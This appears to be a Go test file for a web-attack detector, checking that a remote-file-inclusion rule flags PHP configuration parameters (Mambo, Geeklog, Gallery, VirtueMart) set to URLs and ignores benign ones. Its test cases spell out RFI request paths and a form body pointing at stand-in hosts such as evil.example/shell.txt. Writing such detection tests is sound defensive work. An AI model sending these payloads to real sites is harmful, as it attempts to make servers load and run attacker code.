package signature_test

import (
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/bulwarkhq/bulwark/threat/signature"
)

// PHP applications' configuration variables set to a URL from a request
// (the CRS's 931110 requests and public exploits of Mambo, Geeklog and
// Gallery), beside ordinary parameters that carry URLs.
func TestRFIConfigParams(t *testing.T) {
	d, err := signature.New(signature.Config{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		target string
		want   bool
	}{
		{"/get/plugins/spamx/BaseAdmin.class.php?_CONF[path]=https://foo.bar", true},
		{"/get/components/com_virtuemart/show_image_in_imgtag.php?mosConfig_absolute_path=https://foo.bar", true},
		{"/gallery/init.php?GALLERY_BASEDIR=http://evil.example/x.txt%3F", true},
		{"/x.php?APPSERV_ROOT=ftp://evil.example/x", true},
		{"/x.php?path[docroot]=FTPS://evil.example/x", true},
		{"/x.php?config[root_dir]=http://evil.example/", true},
		// URLs under ordinary names, and the names without a URL
		{"/hooks?callback_url=https://example.com/hook", false},
		{"/x?config_path=https://foo.bar", false},
		{"/x?mosConfig_absolute_path=hello", false},
		{"/x?appserv_root=javascript://x", false},
	}
	for _, tt := range tests {
		got := slices.Contains(rulesOf(detect(t, d, httptest.NewRequest("GET", tt.target, nil))), "rfi.config_param")
		if got != tt.want {
			t.Errorf("%s: rfi.config_param %v, want %v", tt.target, got, tt.want)
		}
	}
	r := httptest.NewRequest("POST", "/index.php", strings.NewReader("option=com_x&mosConfig_absolute_path=http://evil.example/shell.txt"))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if !slices.Contains(rulesOf(detect(t, d, r)), "rfi.config_param") {
		t.Error("form mosConfig_absolute_path: no rfi.config_param")
	}
}
